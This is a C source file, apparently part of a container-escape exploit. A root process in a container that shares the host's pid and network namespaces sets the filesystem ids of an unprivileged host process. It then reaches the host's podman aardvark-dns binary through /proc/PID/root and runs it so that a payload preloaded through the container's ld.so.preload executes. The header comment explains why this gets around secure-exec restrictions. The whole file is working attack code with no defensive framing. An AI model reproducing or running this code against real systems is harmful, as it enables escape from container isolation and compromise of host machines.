/* Runs as root in a container (its own root filesystem) that shares the
 * host's pid and network namespaces. Reaches the host's aardvark-dns file
 * through /proc/PID/root of an unprivileged host process (PID, UID, GID:
 * argv 1-3), with the fs ids of that process (ptrace-read access needs
 * nothing more), then runs it as root. The payload is preloaded by the
 * container's own /etc/ld.so.preload (a capability-bounded root's exec is
 * a secure exec, which ignores LD_PRELOAD paths, not ld.so.preload); if it
 * is not, aardvark-dns prints its version and exits. */
#define _GNU_SOURCE
#include <stdio.h>
#include <stdlib.h>
#include <unistd.h>
#include <sys/fsuid.h>

int main(int argc, char **argv) {
    if (argc < 4) return 2;
    char path[256];
    snprintf(path, sizeof path, "/proc/%s/root/usr/lib/podman/aardvark-dns", argv[1]);
    if (argc > 4) snprintf(path, sizeof path, "%s", argv[4]); /* a copy of it */
    setfsgid(atoi(argv[3]));
    setfsuid(atoi(argv[2]));
    char *args[] = {"aardvark-dns", "-p", "53", "version", NULL};
    char *envp[] = {NULL};
    execve(path, args, envp);
    perror("execve");
    return 3;
}
